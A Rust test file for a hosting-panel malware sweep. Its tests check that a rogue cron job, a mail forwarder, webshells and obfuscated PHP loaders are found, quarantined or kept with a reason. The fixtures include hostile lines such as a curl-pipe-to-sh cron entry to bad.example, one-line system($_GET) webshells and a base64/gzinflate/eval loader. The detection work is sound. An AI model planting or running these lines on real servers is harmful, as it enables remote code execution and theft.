//! The persistence review on the demo: the rogue cron job, the forwarder, the backdoor and the
//! bad .htaccess are found and removed (files to quarantine), kept items need a reason, and
//! clean WordPress core is not flagged.

use crate::harness::*;

/// The reasons (`why`) a scan's JSON gives the file whose path ends with `name`.
fn json_reasons(v: &serde_json::Value, name: &str) -> Vec<String> {
    v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["path"].as_str().unwrap().ends_with(name))
        .flat_map(|f| f["reasons"].as_array().unwrap().iter().map(|r| r["why"].as_str().unwrap().to_owned()))
        .collect()
}

/// The finding id in the review page's block that mentions `needle`.
fn finding_id(page: &str, needle: &str) -> String {
    let at = page.find(needle).unwrap_or_else(|| panic!("{needle} is not on the page"));
    let rest = &page[at..];
    let i = rest.find("name=\"id\" value=\"").expect("an id after it") + 17;
    rest[i..].split('"').next().unwrap().to_owned()
}

#[test]
fn the_rogue_cron_job_forwarder_and_backdoor_are_found_and_removed() {
    let sim = Sim::start();
    let b = sim.browser();
    let url = format!("{}?view=sweep", b.plugin_url());
    let page = b.get(&url);
    assert_eq!(page.status, 200);
    let t = page.text();
    assert!(
        t.contains("curl -s http://bad.example/k.sh | sh") && t.contains("Downloads code from the internet"),
        "{t}"
    );
    assert!(t.contains("info@demo-shop.example → collector@bad.example"));
    assert!(t.contains("public_html/wp-content/uploads/2026/11/cache-img.php"));
    assert!(t.contains("(typical spam redirect)"));
    assert!(!t.contains("owner@demo-shop.example"), "a forwarder to the account's own domain is not flagged");

    for needle in ["bad.example/k.sh", "collector@bad.example", "uploads/2026/11/cache-img.php"] {
        let id = finding_id(&b.get(&url).body, needle);
        let r = b.submit(&[("action", "remove_finding"), ("id", &id)]);
        assert_eq!(r.status, 303, "{needle}: {}", r.text());
    }
    let cron = sim.api2("Cron", "listcron", &[]);
    let cmds: Vec<&str> =
        cron["cpanelresult"]["data"].as_array().unwrap().iter().filter_map(|c| c["command"].as_str()).collect();
    assert_eq!(cmds, ["/usr/local/bin/php /home/demo/public_html/wp-cron.php"]);
    let fwd = sim.uapi("Email", "list_forwarders", &[]);
    assert!(!fwd.to_string().contains("collector@bad.example"));
    assert!(!sim.home().join("public_html/wp-content/uploads/2026/11/cache-img.php").exists());
    let quarantined =
        std::fs::read_dir(sim.home().join(".secure_reopen/quarantine/files")).unwrap().next().unwrap().unwrap().path();
    assert!(quarantined.join("public_html/wp-content/uploads/2026/11/cache-img.php").exists());
    assert_eq!(sim.audit_log().matches("\"event\":\"finding_removed\",\"result\":\"ok\"").count(), 3);
}

#[test]
fn keeping_a_finding_needs_a_reason_and_clears_it() {
    let sim = Sim::start();
    let b = sim.browser();
    let url = format!("{}?view=sweep", b.plugin_url());
    let id = finding_id(&b.get(&url).body, "wp-cron.php");
    assert_eq!(b.submit(&[("action", "keep_finding"), ("id", &id), ("reason", "")]).status, 400);
    assert_eq!(
        b.submit(&[("action", "keep_finding"), ("id", &id), ("reason", "WordPress's own scheduler")]).status,
        303
    );
    let t = b.get(&url).text();
    assert!(t.contains("Kept") && t.contains("WordPress's own scheduler"), "{t}");
    // Removing a finding that no longer exists says so.
    let r = b.submit(&[("action", "remove_finding"), ("id", "0000000000000000")]);
    assert_eq!(r.status, 409);
}

#[test]
fn clean_wordpress_core_is_not_flagged() {
    let core = std::path::Path::new("/usr/share/wordpress");
    assert!(
        core.join("wp-includes/version.php").exists(),
        "Debian's wordpress package is needed: run ./scripts/test.sh"
    );
    let home = core.parent().unwrap();
    let report = secure_reopen::sweep::files::sweep(home, &[core.to_path_buf()], &Default::default());
    assert!(report.files_seen > 1500, "too few files seen: {}", report.files_seen);
    let paths: Vec<&str> = report.findings.iter().map(|f| f.path.as_str()).collect();
    assert!(paths.is_empty(), "false positives in WordPress core: {paths:?}");
}

#[test]
fn the_review_feeds_the_checklist_until_nothing_is_left_open() {
    let sim = Sim::start();
    let b = sim.browser();
    assert!(b.plugin().text().contains("things to remove or keep on purpose"));
    let url = format!("{}?view=sweep", b.plugin_url());
    loop {
        let page = b.get(&url);
        let Some(i) = page.body.find("value=\"keep_finding\"") else { break };
        let rest = &page.body[i..];
        let j = rest.find("name=\"id\" value=\"").unwrap() + 17;
        let id = rest[j..].split('"').next().unwrap().to_owned();
        assert_eq!(
            b.submit(&[("action", "keep_finding"), ("id", &id), ("reason", "reviewed by the owner")]).status,
            303
        );
    }
    let t = b.plugin().text();
    assert!(!t.contains("things to remove or keep on purpose"), "{t}");
    assert!(b.get(&url).text().contains("Nothing left to review."));
}

const CORPUS: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/sweep/malicious");

/// Debian packages of popular PHP software (installed by scripts/test.sh), used as clean trees.
const CLEAN_TREES: &[&str] = &[
    "/usr/share/wordpress",
    "/usr/share/phpmyadmin",
    "/usr/share/roundcube",
    "/usr/share/dokuwiki",
    "/usr/share/mediawiki",
    "/usr/share/php",
];

/// Every sample of the corpus: its name and the file (a folder holds one configuration file
/// or page, since those are recognised by their own name).
fn corpus() -> Vec<(String, std::path::PathBuf)> {
    samples(CORPUS)
}

/// Attackers' shapes written from public write-ups after the detector was frozen, measured
/// before any tuning (30 of 51 were found then), kept apart from the tuning corpus.
const HELDOUT: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/sweep/heldout");

fn samples(dir: &str) -> Vec<(String, std::path::PathBuf)> {
    let mut out = Vec::new();
    for e in std::fs::read_dir(dir).unwrap() {
        let e = e.unwrap();
        let name = e.file_name().to_string_lossy().into_owned();
        if e.file_type().unwrap().is_dir() {
            let inner: Vec<_> = std::fs::read_dir(e.path()).unwrap().map(|f| f.unwrap().path()).collect();
            assert_eq!(inner.len(), 1, "{name} holds one file");
            out.push((name, inner[0].clone()));
        } else {
            out.push((name, e.path()));
        }
    }
    out.sort();
    out
}

/// A site holding every sample in a folder of its own under neutral names (no upload or
/// plugin folder), so only the content can give a sample away.
fn site_with_corpus() -> (tempfile::TempDir, std::path::PathBuf, Vec<String>) {
    site_with(corpus())
}

fn site_with(samples: Vec<(String, std::path::PathBuf)>) -> (tempfile::TempDir, std::path::PathBuf, Vec<String>) {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("public_html");
    let mut names = Vec::new();
    for (i, (name, file)) in samples.into_iter().enumerate() {
        let dir = root.join(format!("lib/part{i:03}"));
        std::fs::create_dir_all(&dir).unwrap();
        std::fs::copy(&file, dir.join(file.file_name().unwrap())).unwrap();
        names.push(name);
    }
    (tmp, root, names)
}

#[test]
fn the_corpus_of_attackers_shapes_is_found_by_content_alone() {
    recall_of(site_with_corpus(), 60);
}

#[test]
fn the_held_out_shapes_are_found_by_content_alone() {
    recall_of(site_with(samples(HELDOUT)), 40);
}

/// Sweeps a site of samples (each in a neutral folder of its own): at least 90 % are found and
/// nothing else is reported.
fn recall_of((tmp, root, names): (tempfile::TempDir, std::path::PathBuf, Vec<String>), at_least: usize) {
    assert!(names.len() >= at_least, "the set has {} samples", names.len());
    let report = secure_reopen::sweep::files::sweep(tmp.path(), &[root], &Default::default());
    let found: std::collections::BTreeSet<usize> = report
        .findings
        .iter()
        .filter_map(|f| f.path.split('/').find_map(|p| p.strip_prefix("part")).and_then(|n| n.parse().ok()))
        .collect();
    let missed: Vec<&str> =
        names.iter().enumerate().filter(|(i, _)| !found.contains(i)).map(|(_, n)| n.as_str()).collect();
    let recall = found.len() as f64 / names.len() as f64;
    assert!(recall >= 0.9, "recall {:.1} % ({}/{}); missed: {missed:?}", recall * 100.0, found.len(), names.len());
    // Nothing but the samples is reported, most dangerous first.
    assert_eq!(report.findings.len(), found.len());
    let dangers: Vec<_> = report.findings.iter().map(|f| f.danger()).collect();
    assert!(dangers.windows(2).all(|w| w[0] >= w[1]), "ranked by danger: {dangers:?}");
    eprintln!("corpus recall {}/{}; missed: {missed:?}", found.len(), names.len());
}

#[test]
fn each_shape_gets_the_reason_a_customer_can_read() {
    use secure_reopen::sweep::detect::{Danger, Why, judge};
    let why = |name: &str| -> Vec<Why> {
        let (_, file) = corpus().into_iter().find(|(n, _)| n == name).unwrap();
        let fname = file.file_name().unwrap().to_string_lossy().into_owned();
        judge(&fname, &fname, &std::fs::read(&file).unwrap(), &[]).into_iter().map(|h| h.why).collect()
    };
    assert_eq!(why("char_table_loader.php")[0], Why::EvalOfDecoded);
    assert!(why("char_table_loader.php").contains(&Why::HiddenFunctionName));
    assert_eq!(why("chr_concatenation.php")[0], Why::CodeFromInput);
    assert_eq!(why("shell_exec_variable.php"), [Why::ShellFromInput]);
    assert_eq!(why("curl_fetch_eval.php"), [Why::CodeFromInternet]);
    assert_eq!(why("upload_form_dropper.php"), [Why::UploadDropper]);
    assert_eq!(why("include_favicon.php"), [Why::IncludeOfData]);
    assert_eq!(why("lockdown"), [Why::PhpLockdown]);
    assert_eq!(why("cgi_invented_extension"), [Why::HandlerOnData]);
    assert_eq!(why("php_ini_weakened"), [Why::PhpWeakened]);
    assert_eq!(why("ssi_exec_page"), [Why::SsiExec]);
    assert_eq!(why("fake_wordfence_block"), [Why::PrependAppend]);
    // The words shown to the customer exist in both languages for every reason found.
    for (name, file) in corpus() {
        let fname = file.file_name().unwrap().to_string_lossy().into_owned();
        for h in judge(&fname, &fname, &std::fs::read(&file).unwrap(), &[]) {
            assert!(h.danger >= Danger::Low);
            for lang in [secure_reopen::i18n::Lang::En, secure_reopen::i18n::Lang::Nb] {
                let t = (lang.texts().sweep.reason)(&secure_reopen::sweep::Reason::File(h.why));
                assert!(t.len() > 10, "{name}: {:?}", h.why);
            }
        }
    }
}

#[test]
fn a_large_webshell_with_non_ascii_text_and_a_long_base64_run_is_found() {
    // 214 KB: a UTF-8 comment, a long base64 run and the loader at the end.
    let mut src = "<?php\n// Kontrollpanel – «cache» ø\n$d = '".to_owned();
    let run: String = (0..210_000).map(|i| b"QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo0NTY3+/"[i % 42] as char).collect();
    src.push_str(&run);
    src.push_str("';\n$f = gzinflate(base64_decode($d));\n@eval($f);\n");
    assert!(src.len() > 210_000);
    let (hits, ms_per_mb) = judge_timed(&src);
    eprintln!("the slow-path file: {ms_per_mb:.0} ms per MB (test build)");
    assert!(ms_per_mb < 100.0, "{ms_per_mb:.0} ms per MB in a test build");
    let whys: Vec<_> = hits.iter().map(|h| h.why).collect();
    assert!(whys.contains(&secure_reopen::sweep::detect::Why::EvalOfDecoded), "{whys:?}");
    assert_eq!(hits[0].line, Some(5));
}

/// CPU time of this thread (steady when other work shares the machine) per MB of `judge` on a
/// PHP file, in a test build (the sweep's patterns are optimised there too; the benchmark
/// measures release).
fn judge_timed(src: &str) -> (Vec<secure_reopen::sweep::detect::Hit>, f64) {
    let cpu = || {
        // SAFETY: getrusage only writes into the struct we own.
        let mut u: libc::rusage = unsafe { std::mem::zeroed() };
        unsafe { libc::getrusage(libc::RUSAGE_THREAD, &mut u) };
        std::time::Duration::new(u.ru_utime.tv_sec as u64, u.ru_utime.tv_usec as u32 * 1000)
            + std::time::Duration::new(u.ru_stime.tv_sec as u64, u.ru_stime.tv_usec as u32 * 1000)
    };
    let t = cpu();
    let hits = secure_reopen::sweep::detect::judge("x.php", "x.php", src.as_bytes(), &[]);
    (hits, (cpu() - t).as_secs_f64() * 1000.0 / (src.len() as f64 / 1048576.0))
}

#[test]
fn hostile_shapes_cannot_make_one_file_slow() {
    // About 256 KB each of what would make a careless analysis quadratic: deep nesting, many
    // variables named by strings, many nested calls that look inside their arguments, and
    // one long function.
    let n = 1 << 18;
    let shapes = [
        format!("<?php $a = {}1{};", "[".repeat(n / 2 - 8), "]".repeat(n / 2 - 8)),
        format!("<?php $a = 'b'; {}", "$$a = 'system'; $b($_GET[1]); ".repeat(n / 32)),
        format!("<?php $b = 'system'; {}", "$b($_GET[1]);\n".repeat(n / 14)),
        format!("<?php {}", "wp_insert_user(".repeat(n / 16)),
        format!("<?php {}", "list($a, $b) = [$_GET['x'], 'y']; ".repeat(n / 36)),
        format!("<?php function f($x) {{ {} eval($x); }} f($_POST[1]);", "$y = $x . $y; ".repeat(n / 14)),
        // Many uploads deep in blocks: each is looked at for the application's checks around it.
        format!("<?php {} {}", "if ($a) {".repeat(n / 64), "move_uploaded_file($t, $_GET['n']);\n".repeat(n / 48)),
        format!("<?php {} move_uploaded_file($t, $_GET['n']);", "if (in_array($ext, ['jpg', 'png']) {".repeat(n / 40)),
        format!("<?php {} move_uploaded_file($t, $_GET['n']);", "if (in_array($ext, $ok)) {".repeat(n / 26)),
    ];
    for src in &shapes {
        let (_, ms_per_mb) = judge_timed(src);
        assert!(ms_per_mb < 1000.0, "{ms_per_mb:.0} ms per MB for {}…", &src[..40]);
    }
}

#[test]
fn clean_software_from_debian_is_quiet() {
    let trees: Vec<std::path::PathBuf> = CLEAN_TREES.iter().map(std::path::PathBuf::from).collect();
    for t in &trees {
        assert!(t.is_dir(), "{} is missing: run ./scripts/test.sh (it installs the Debian packages)", t.display());
    }
    let report = secure_reopen::sweep::files::sweep(std::path::Path::new("/usr/share"), &trees, &Default::default());
    assert!(report.files > 30_000, "too few files: {}", report.files);
    let flagged: Vec<String> = report
        .findings
        .iter()
        .map(|f| format!("{} {:?}", f.path, f.hits.iter().map(|h| (h.why, h.evidence.as_str())).collect::<Vec<_>>()))
        .collect();
    assert!(
        flagged.len() * 2000 < report.files,
        "{} false positives in {} clean files:\n{}",
        flagged.len(),
        report.files,
        flagged.join("\n")
    );
    eprintln!("clean trees: {} flagged of {} files", flagged.len(), report.files);
}

/// Ordinary application code written for these tests (an upload handler behind a login, a
/// class's method, a JSON-RPC endpoint, a command-line tool, a plugin router), a blog post that
/// tells how the shop was hacked, and a programmer's "hacked by" comment: none is reported.
const CLEAN: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/sweep/clean");

#[test]
fn an_applications_own_handlers_are_not_reported() {
    let out = std::process::Command::new(PLUGIN).args(["scan", CLEAN, "--json"]).output().unwrap();
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(v["files_read"].as_u64().unwrap() >= 9, "{v}");
    assert_eq!(v["findings"].as_array().unwrap().len(), 0, "false positives: {}", v["findings"]);
    assert_eq!(out.status.code(), Some(0));
}

#[test]
fn a_technician_scans_a_folder_from_the_command_line() {
    let (tmp, root, names) = site_with_corpus();
    let run = |args: &[&str]| {
        let out = std::process::Command::new(PLUGIN).args(args).output().unwrap();
        (out.status.code().unwrap(), String::from_utf8_lossy(&out.stdout).into_owned())
    };
    let (code, text) = run(&["scan", root.to_str().unwrap()]);
    assert_eq!(code, 1, "something found: exit 1");
    assert!(text.lines().next().unwrap().starts_with("critical "), "{text}");
    assert!(text.contains("Lets visitors run commands on the server"), "{text}");
    let (code, json) = run(&["scan", root.to_str().unwrap(), "--json"]);
    assert_eq!(code, 1);
    let v: serde_json::Value = serde_json::from_str(&json).unwrap();
    let findings = v["findings"].as_array().unwrap();
    assert!(findings.len() * 10 >= names.len() * 9);
    let lockdown = findings
        .iter()
        .find(|f| f["path"].as_str().unwrap().ends_with(".htaccess") && f["reasons"][0]["why"] == "php_lockdown")
        .expect("the lockdown .htaccess");
    assert_eq!(lockdown["danger"], "high");
    // A clean folder: exit 0; a missing one: usage error.
    let clean = tmp.path().join("clean");
    std::fs::create_dir_all(&clean).unwrap();
    std::fs::write(clean.join("index.php"), "<?php echo 'hello';\n").unwrap();
    assert_eq!(run(&["scan", clean.to_str().unwrap()]).0, 0);
    assert_eq!(run(&["scan", tmp.path().join("nope").to_str().unwrap()]).0, 2);
}

#[test]
fn opening_an_incident_with_a_scan_keeps_the_findings_as_evidence() {
    let sim = Sim::start();
    let site = sim.state_dir().join("home/other/public_html/wp-includes");
    std::fs::create_dir_all(&site).unwrap();
    std::fs::write(site.join("class-wp-cache-x.php"), "<?php $k = 'sys' . 'tem'; $k($_GET['c']);\n").unwrap();
    std::fs::write(site.join("version.php"), "<?php $wp_version = '6.1';\n").unwrap();
    let (code, out, err) = sim.admin(&["incident", "open", "other", "--scan", "--no-suspend"]);
    assert_eq!(code, 0, "{err}");
    assert!(out.contains("scan: 1 findings"), "{out}");
    let file = sim.root().join("var/cpanel/secure_reopen/incidents/other.scan.json");
    let v: serde_json::Value = serde_json::from_slice(&std::fs::read(&file).unwrap()).unwrap();
    let paths: Vec<&str> = v["findings"].as_array().unwrap().iter().map(|f| f["path"].as_str().unwrap()).collect();
    assert_eq!(paths, ["public_html/wp-includes/class-wp-cache-x.php"]);
    assert_eq!(v["findings"][0]["reasons"][0]["why"], "shell_from_input");
    use std::os::unix::fs::PermissionsExt;
    assert_eq!(std::fs::metadata(&file).unwrap().permissions().mode() & 0o777, 0o600);
    let log = std::fs::read_to_string(sim.root().join("var/cpanel/secure_reopen/audit/other.log")).unwrap();
    assert!(log.contains("\"event\":\"incident_scanned\""), "{log}");
}

#[test]
fn the_hosts_yara_rules_and_maldets_last_report_join_the_scan() {
    use std::os::unix::fs::PermissionsExt;
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("root");
    let rules = root.join("etc/secure-reopen/yara");
    let sess = root.join("usr/local/maldetect/sess");
    let site = tmp.path().join("home/public_html");
    for d in [&rules, &sess, &site] {
        std::fs::create_dir_all(d).unwrap();
    }
    std::fs::set_permissions(&rules, std::fs::Permissions::from_mode(0o755)).unwrap();
    // A host rule for a defacement our own detectors do not look for, and one that never matches.
    std::fs::write(
        rules.join("host.yar"),
        "rule Host_Defacement_Marker { strings: $a = \"owned by the-host-test-crew\" condition: $a }\n",
    )
    .unwrap();
    std::fs::write(rules.join("other.yara"), "rule Never_Matches { strings: $a = \"zq-nothing-zq\" condition: $a }\n")
        .unwrap();
    std::fs::write(site.join("index.php"), "<?php echo 'owned by the-host-test-crew';\n").unwrap();
    std::fs::write(site.join("about.php"), "<?php echo 'about us';\n").unwrap();
    std::fs::write(site.join("shell.php"), "<?php system($_GET['c']);\n").unwrap();
    // maldet's last scan: one hit on a file still there, one on a file already quarantined.
    std::fs::write(sess.join("session.last"), "251125-1830.4242\n").unwrap();
    let site = std::fs::canonicalize(&site).unwrap();
    std::fs::write(
        sess.join("session.hits.251125-1830.4242"),
        format!(
            "{{HEX}}php.cmdshell.unclassed.365 : {0}/about.php\n{{HEX}}php.cmdshell.r57.1 : {0}/gone.php\n{{HEX}}php.cmdshell.c99.2 : {0}/shell.php\n",
            site.display()
        ),
    )
    .unwrap();
    let run = || scan_json_finding_something(&root, &site);
    let v = run();
    let by_path = |v: &serde_json::Value, p: &str| -> Vec<(String, String)> {
        v["findings"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|f| f["path"] == p)
            .flat_map(|f| f["reasons"].as_array().unwrap().clone())
            .map(|r| (r["why"].as_str().unwrap().to_owned(), r["evidence"].as_str().unwrap().to_owned()))
            .collect()
    };
    assert_eq!(by_path(&v, "index.php"), [("host_rule".to_owned(), "host rule Host_Defacement_Marker".to_owned())]);
    assert_eq!(
        by_path(&v, "about.php"),
        [("host_rule".to_owned(), "maldet {HEX}php.cmdshell.unclassed.365".to_owned())]
    );
    // A file both flag is listed once, with our reason first (the stronger one).
    let shell = by_path(&v, "shell.php");
    assert_eq!(shell.iter().map(|(w, _)| w.as_str()).collect::<Vec<_>>(), ["shell_from_input", "host_rule"]);
    assert!(by_path(&v, "gone.php").is_empty(), "a quarantined file is not a finding");
    assert_eq!(v["findings"].as_array().unwrap().len(), 3);
    assert_eq!(v["notes"], serde_json::json!([]));
    // A rule folder a customer could write to is not used, and the technician is told why.
    std::fs::set_permissions(&rules, std::fs::Permissions::from_mode(0o777)).unwrap();
    let v = run();
    assert!(by_path(&v, "index.php").is_empty());
    assert!(v["notes"][0].as_str().unwrap().contains("writable only by root"), "{}", v["notes"]);
    // A broken rule file: the sweep's own findings stand, and the note says what went wrong.
    std::fs::set_permissions(&rules, std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::write(rules.join("broken.yar"), "rule { nope\n").unwrap();
    let v = run();
    assert!(v["notes"][0].as_str().unwrap().contains("could not run"), "{}", v["notes"]);
    assert_eq!(by_path(&v, "shell.php")[0].0, "shell_from_input");
}

/// ClamAV's reports (clamd's log, named by its configuration, and a technician's `clamscan
/// --log` report) and ImunifyAV's Malicious List (its own command line) join the scan: a hit on
/// a file still there is a finding; a file gone, changed since, or cleaned by ImunifyAV is not.
#[test]
fn clamav_reports_and_imunifyavs_list_join_the_scan() {
    use std::os::unix::fs::PermissionsExt;
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("root");
    let site = tmp.path().join("home/public_html");
    for d in ["etc/clamav", "var/log/clamav", "var/cpanel/secure_reopen/clamav", "usr/bin"] {
        std::fs::create_dir_all(root.join(d)).unwrap();
    }
    std::fs::create_dir_all(&site).unwrap();
    let site = std::fs::canonicalize(&site).unwrap();
    // Files our own detectors do not flag: only the host's scanners know them.
    for f in ["greeting.php", "stats.php", "counter.php", "edited.php"] {
        std::fs::write(site.join(f), format!("<?php echo '{f}';\n")).unwrap();
    }
    // (A script holds script: PHP under a `.js` name is a finding of our own.)
    std::fs::write(site.join("cleaned.js"), "console.log('cleaned.js');\n").unwrap();
    let s = site.display();
    std::fs::write(root.join("etc/clamav/clamd.conf"), "LogFile /var/log/clamav/clamav.log\nLogTime yes\n").unwrap();
    std::fs::write(
        root.join("var/log/clamav/clamav.log"),
        format!(
            "Wed Nov 25 03:00:00 2026 -> SelfCheck: Database status OK.\n\
             Wed Nov 25 03:00:00 2099 -> {s}/greeting.php: Php.Dropper.Test-1(00ff:32) FOUND\n\
             Wed Nov 25 03:00:00 2001 -> {s}/edited.php: Php.Old.Test-9 FOUND\n"
        ),
    )
    .unwrap();
    std::fs::write(
        root.join("var/cpanel/secure_reopen/clamav/home.log"),
        format!(
            "{s}/stats.php: Php.Webshell.Test-2 FOUND\n{s}/gone.php: Php.Webshell.Test-3 FOUND\n{s}/about.php: OK\n"
        ),
    )
    .unwrap();
    let cli = root.join("usr/bin/imunify-antivirus");
    std::fs::write(
        &cli,
        format!(
            "#!/bin/sh\n[ \"$*\" = 'malware malicious list --json --limit 10000' ] || {{ echo \"unexpected: $*\" >&2; exit 2; }}\n\
             echo '{{\"items\": [{{\"file\": \"{s}/counter.php\", \"type\": \"SMW-INJ-1-bkdr\", \"status\": \"found\", \"malicious\": true}}, \
             {{\"file\": \"{s}/cleaned.js\", \"type\": \"SMW-INJ-2-js\", \"status\": \"cleanup_done\", \"malicious\": true}}], \"max_count\": 2}}'\n"
        ),
    )
    .unwrap();
    std::fs::set_permissions(&cli, std::fs::Permissions::from_mode(0o755)).unwrap();
    let run = || scan_json_finding_something(&root, &site);
    let evidence = |v: &serde_json::Value| -> Vec<(String, String)> {
        let mut e: Vec<(String, String)> = v["findings"]
            .as_array()
            .unwrap()
            .iter()
            .flat_map(|f| {
                f["reasons"].as_array().unwrap().iter().map(|r| {
                    assert_eq!(r["why"], "host_rule");
                    (f["path"].as_str().unwrap().to_owned(), r["evidence"].as_str().unwrap().to_owned())
                })
            })
            .collect();
        e.sort();
        e
    };
    let v = run();
    let pair = |p: &str, e: &str| (p.to_owned(), e.to_owned());
    assert_eq!(
        evidence(&v),
        [
            pair("counter.php", "ImunifyAV SMW-INJ-1-bkdr"),
            pair("greeting.php", "ClamAV Php.Dropper.Test-1"),
            pair("stats.php", "ClamAV Php.Webshell.Test-2"),
        ]
    );
    assert_eq!(v["notes"], serde_json::json!([]));
    // A report a customer could have written is not read, and the technician is told why.
    let report = root.join("var/cpanel/secure_reopen/clamav/home.log");
    std::fs::set_permissions(&report, std::fs::Permissions::from_mode(0o666)).unwrap();
    let v = run();
    assert!(!evidence(&v).contains(&pair("stats.php", "ClamAV Php.Webshell.Test-2")));
    assert!(v["notes"].to_string().contains("writable only by root"), "{}", v["notes"]);
    std::fs::set_permissions(&report, std::fs::Permissions::from_mode(0o644)).unwrap();
    // A false positive the technician cleared by its content is not listed; changed, it is.
    use sha2::Digest;
    let digest = |p: &std::path::Path| {
        sha2::Sha256::digest(std::fs::read(p).unwrap()).iter().map(|b| format!("{b:02x}")).collect::<String>()
    };
    let cleared = root.join("etc/secure-reopen/host-cleared.sha256");
    std::fs::create_dir_all(cleared.parent().unwrap()).unwrap();
    std::fs::write(
        &cleared,
        format!("# our own hit counter\n{}  {s}/counter.php\n", digest(&site.join("counter.php"))),
    )
    .unwrap();
    let v = run();
    assert!(!evidence(&v).iter().any(|(p, _)| p == "counter.php"), "{:?}", evidence(&v));
    std::fs::write(site.join("counter.php"), "<?php echo 'counter, version 2';\n").unwrap();
    assert!(evidence(&run()).contains(&pair("counter.php", "ImunifyAV SMW-INJ-1-bkdr")));
    // ImunifyAV failing is a note; the rest stands.
    std::fs::write(&cli, "#!/bin/sh\necho 'license expired' >&2\nexit 1\n").unwrap();
    let v = run();
    assert_eq!(evidence(&v).len(), 2);
    assert!(v["notes"].to_string().contains("license expired"), "{}", v["notes"]);
}

/// What the host's own scanners flag on a file still there keeps the reopen closed: root reads
/// the reports itself at the reopen, the page lists the file beside the sweep's own findings,
/// and once the customer removes it (to the quarantine) the reopen goes through.
#[test]
fn a_host_scanners_hit_keeps_the_reopen_closed_until_the_customer_removes_the_file() {
    let sim = Sim::start();
    let b = sim.browser();
    crate::reopen::make_everything_pass(&sim, &b);
    // The persistence review is required again; the sweep's own findings are kept with a reason.
    std::fs::write(
        sim.root().join("var/cpanel/secure_reopen/policy.json"),
        serde_json::json!({"items": {"credentials_rotated": "off", "folder_restored": "off", "wordpress_hardened": "off"},
                           "php_minimum": "7.4"})
        .to_string(),
    )
    .unwrap();
    let url = format!("{}?view=sweep", b.plugin_url());
    let keep = |page: &str| -> Option<String> {
        let at = page.find("value=\"keep_finding\"")?;
        let rest = &page[at..];
        let i = rest.find("name=\"id\" value=\"")? + 17;
        Some(rest[i..].split('"').next()?.to_owned())
    };
    while let Some(id) = keep(&b.get(&url).body) {
        assert_eq!(b.submit(&[("action", "keep_finding"), ("id", &id), ("reason", "ours, checked")]).status, 303);
    }
    // A file the sweep does not flag; the technician's clamscan report does.
    let home = std::fs::canonicalize(sim.home()).unwrap();
    std::fs::write(home.join("public_html/promo.php"), "<?php echo 'spring sale';\n").unwrap();
    let reports = sim.root().join("var/cpanel/secure_reopen/clamav");
    std::fs::create_dir_all(&reports).unwrap();
    std::fs::write(
        reports.join("demo.log"),
        format!("{}/public_html/promo.php: Php.Webshell.Test-7 FOUND\n", home.display()),
    )
    .unwrap();
    let release = || {
        let page = b.plugin();
        let i = page.body.find("name=\"release\" value=\"").unwrap() + 22;
        page.body[i..].split('"').next().unwrap().to_owned()
    };
    let r = b.submit(&[("action", "reopen"), ("release", &release())]);
    assert_eq!(r.status, 409, "{}", r.text());
    assert!(r.text().contains("Remove what the attacker left behind"), "{}", r.text());
    assert_eq!(sim.incident()["status"], serde_json::json!("awaiting_customer"));
    // The page lists what root saw, with the scanner's words, and the customer removes it.
    let page = b.get(&url);
    assert!(page.text().contains("ClamAV Php.Webshell.Test-7"), "{}", page.text());
    let id = finding_id(&page.body, "public_html/promo.php");
    assert_eq!(b.submit(&[("action", "remove_finding"), ("id", &id)]).status, 303);
    assert!(!home.join("public_html/promo.php").exists());
    assert!(!b.get(&url).text().contains("Php.Webshell.Test-7"));
    // A report root cannot vouch for (anyone could have edited it) is not "nothing found".
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(reports.join("demo.log"), std::fs::Permissions::from_mode(0o666)).unwrap();
    let r = b.submit(&[("action", "reopen"), ("release", &release())]);
    assert_eq!(r.status, 409, "{}", r.text());
    assert!(r.text().contains("Remove what the attacker left behind"), "{}", r.text());
    std::fs::set_permissions(reports.join("demo.log"), std::fs::Permissions::from_mode(0o644)).unwrap();
    let r = b.submit(&[("action", "reopen"), ("release", &release())]);
    assert_eq!(r.status, 303, "{}", r.text());
    assert_eq!(sim.incident()["status"], serde_json::json!("reopened"));
}

/// `incident open --scan` keeps what the host's scanners said (YARA included) in root's record
/// for the account, which the customer's group may read (their page lists it) and nobody else.
#[test]
fn opening_an_incident_with_a_scan_records_the_host_scanners_hits_for_the_page() {
    use std::os::unix::fs::PermissionsExt;
    let sim = Sim::start();
    let rules = sim.root().join("etc/secure-reopen/yara");
    std::fs::create_dir_all(&rules).unwrap();
    std::fs::set_permissions(&rules, std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::write(
        rules.join("host.yar"),
        "rule Host_Mailer_Kit { strings: $a = \"zq-mailer-kit-zq\" condition: $a }\n",
    )
    .unwrap();
    let site = sim.state_dir().join("home/other/public_html");
    std::fs::create_dir_all(&site).unwrap();
    std::fs::write(site.join("newsletter.php"), "<?php // zq-mailer-kit-zq\necho 'hi';\n").unwrap();
    let (code, out, err) = sim.admin(&["incident", "open", "other", "--scan", "--no-suspend"]);
    assert_eq!(code, 0, "{err}");
    assert!(out.contains("scan: 1 findings"), "{out}");
    let file = sim.root().join("var/cpanel/secure_reopen/incidents/other.host.json");
    let v: serde_json::Value = serde_json::from_slice(&std::fs::read(&file).unwrap()).unwrap();
    assert_eq!(
        v["hits"],
        serde_json::json!([{"path": "public_html/newsletter.php", "scanner": "yara", "signature": "Host_Mailer_Kit"}])
    );
    assert_eq!(std::fs::metadata(&file).unwrap().permissions().mode() & 0o777, 0o640);
}

/// `secure-reopen --root ROOT scan SITE --json`, which must find something (exit code 1).
fn scan_json_finding_something(root: &std::path::Path, site: &std::path::Path) -> serde_json::Value {
    let out = std::process::Command::new(PLUGIN)
        .args(["--root", root.to_str().unwrap(), "scan", site.to_str().unwrap(), "--json"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", String::from_utf8_lossy(&out.stderr));
    serde_json::from_slice::<serde_json::Value>(&out.stdout).unwrap()
